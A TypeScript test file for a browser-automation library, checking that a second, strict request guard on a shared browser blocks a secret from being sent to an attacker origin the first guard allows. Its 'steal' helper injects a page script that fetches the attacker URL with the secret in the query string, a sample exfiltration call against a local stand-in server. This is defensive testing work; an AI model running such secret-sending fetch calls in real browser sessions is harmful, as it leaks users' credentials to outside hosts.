import { expect, layer } from "@effect/vitest"
import { BrowserDriver } from "@sextant/core"
import {
  type AttackerOrigin,
  type FixtureSite,
  startAttackerOrigin,
  startFixtureSite,
} from "@sextant/fixture-site"
import { Effect, Exit, Scope } from "effect"
import { afterAll, beforeAll } from "vitest"
import { WebdriverioDriver } from "../src/index.ts"

/**
 * Two request guards on one browser at once, as an MCP session (its own guard, for as long as its
 * browser lives) and a run it starts on that browser (the run's strict guard) have them: the second
 * arms on the tabs the first already holds, sharing their interception, and blocks what it does not
 * allow though the first would let it go. The attacker origin logs every request it receives.
 */

const SECRET = "shared-guard-secret-41"

let site: FixtureSite
let attacker: AttackerOrigin
beforeAll(async () => {
  site = await startFixtureSite({ port: 0, seed: 0 })
  attacker = await startAttackerOrigin()
})
afterAll(async () => {
  await attacker?.close()
  await site?.close()
})

const steal = (driver: BrowserDriver["Service"]) =>
  driver.evaluate(
    `return fetch(arguments[0] + "/steal?p=" + arguments[1]).then(() => "sent", () => "failed")`,
    [attacker.url, SECRET],
  )

layer(WebdriverioDriver.layerShared({ driver: { actionWaitMs: 300 } }), {
  excludeTestServices: true,
  timeout: "60 seconds",
})("a second request guard on tabs a first one holds", (it) => {
  it.effect(
    "arms, blocks the secret going where only it forbids, and leaves the first guard and the page in place when it ends",
    () =>
      Effect.gen(function* () {
        const driver = yield* BrowserDriver
        yield* driver.navigate(`${site.url}/login`)
        // The first guard lets the secret go to the attacker origin too.
        yield* driver.guardSecrets!({ values: [SECRET], origins: [site.url, attacker.url] })
        const scope = yield* Scope.make()
        const armed = yield* Effect.exit(
          Scope.provide(driver.guardSecrets!({ values: [SECRET], origins: [site.url], strict: true }), scope),
        )
        expect(Exit.isSuccess(armed)).toBe(true)
        if (!Exit.isSuccess(armed)) return
        const since = attacker.requests.length
        expect(yield* steal(driver)).toBe("failed")
        expect((yield* armed.value.blocked).map((blocked) => blocked.origin)).toEqual([attacker.url])
        expect(attacker.requests.slice(since).some((request) => request.url.includes(SECRET))).toBe(false)
        // The second guard's end neither blanks the tab nor ends the first guard's hold on it.
        yield* Scope.close(scope, Exit.void)
        expect(yield* driver.currentUrl).toBe(`${site.url}/login`)
      }).pipe(Effect.scoped),
  )
})
